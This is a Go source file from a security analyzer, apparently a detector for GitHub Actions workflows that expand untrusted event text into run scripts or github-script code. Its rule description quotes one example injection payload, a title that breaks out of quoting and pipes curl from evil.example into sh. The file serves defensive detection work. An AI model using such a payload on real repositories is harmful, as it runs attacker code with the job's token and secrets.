package workflows

import (
	"fmt"

	"go.yaml.in/yaml/v3"

	"github.com/fourcsec/fourc/analyzers/internal/yamldoc"
	"github.com/fourcsec/fourc/shared/finding"
)

var ruleScriptInjection = finding.Rule{
	ID:       "gha-script-injection",
	Title:    "Untrusted event text expanded into a script",
	Layer:    finding.Code,
	Severity: finding.High,
	Description: "A `${{ … }}` expression in a `run:` script or an actions/github-script `script:` " +
		"is replaced by its value before the shell or JavaScript runs, so text an outsider " +
		"writes — an issue or pull request title or body, a comment, a review, a branch name " +
		"(github.head_ref), a commit message or author, a wiki page name — becomes code: a title " +
		"like `a\"; curl evil.example | sh; \"` runs in the job, with its token and secrets. An " +
		"`env.X` set from such a value counts too. Boolean uses (comparisons, contains()) are " +
		"safe and not reported. Findings are raised to critical when the workflow runs on " +
		"pull_request_target, issues, issue_comment, discussion, discussion_comment or " +
		"workflow_run, which have secrets and a write token. CI workflows are code of the " +
		"repository and its supply chain, hence the code layer.",
	Remediation: "Pass the value through an environment variable and quote it: `env: TITLE: ${{ github.event.issue.title }}` with `run: echo \"$TITLE\"`; in github-script read `context.payload` instead of interpolating.",
	References: []string{
		"CWE-78", "CWE-94",
		"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
		"https://securitylab.github.com/resources/github-actions-untrusted-input/",
	},
}

func checkScriptInjection(f *file, r *report) {
	trigger := f.privilegedTrigger()
	for _, js := range f.allSteps() {
		tainted := taintedEnv(f.stepEnv(js))
		if js.step.run != nil {
			reportInjections(r, js.step.run, "run script", tainted, trigger)
		}
		if usesAction(js.step, "actions/github-script") {
			if script := withInput(js.step, "script"); script != nil {
				reportInjections(r, script, "github-script code", tainted, trigger)
			}
		}
	}
}

// taintedEnv lists the environment variables whose value is built from untrusted input: using
// them as ${{ env.NAME }} in a script is the same injection.
func taintedEnv(env map[string]envVar) map[string]string {
	out := map[string]string{}
	for name, e := range env {
		value, ok := yamldoc.String(e.value)
		if !ok {
			continue
		}
		for _, sp := range expressions(value) {
			for _, ref := range references(sp.inner) {
				if !ref.safe && isUntrusted(ref.path) {
					out[name] = ref.String()
				}
			}
		}
	}
	return out
}

func reportInjections(r *report, n *yaml.Node, where string, tainted map[string]string, trigger string) {
	code, ok := yamldoc.String(n)
	if !ok {
		return
	}
	for _, sp := range expressions(code) {
		source, ok := untrustedSource(sp.inner, tainted)
		if !ok {
			continue
		}
		msg := fmt.Sprintf("%s is attacker-controlled and is expanded into the %s before it runs", source, where)
		if trigger != "" {
			msg += fmt.Sprintf("; the workflow runs on %s, with secrets and a write token", trigger)
		}
		fd := r.atScalarPart(&ruleScriptInjection, n, sp.start, "${{", sp.end-sp.start, msg)
		if trigger != "" {
			fd.Severity = finding.Critical
		}
		r.add(fd)
	}
}

// untrustedSource names the first attacker-controlled value an expression puts into its output.
func untrustedSource(expr string, tainted map[string]string) (string, bool) {
	for _, ref := range references(expr) {
		if ref.safe {
			continue
		}
		if isUntrusted(ref.path) {
			return ref.String(), true
		}
		if len(ref.path) == 2 && ref.path[0] == "env" {
			for name, source := range tainted {
				if equalFoldASCII(name, ref.path[1]) {
					return fmt.Sprintf("env.%s (set from %s)", name, source), true
				}
			}
		}
	}
	return "", false
}

func equalFoldASCII(a, b string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := 0; i < len(a); i++ {
		x, y := a[i], b[i]
		if 'A' <= x && x <= 'Z' {
			x += 'a' - 'A'
		}
		if 'A' <= y && y <= 'Z' {
			y += 'a' - 'A'
		}
		if x != y {
			return false
		}
	}
	return true
}
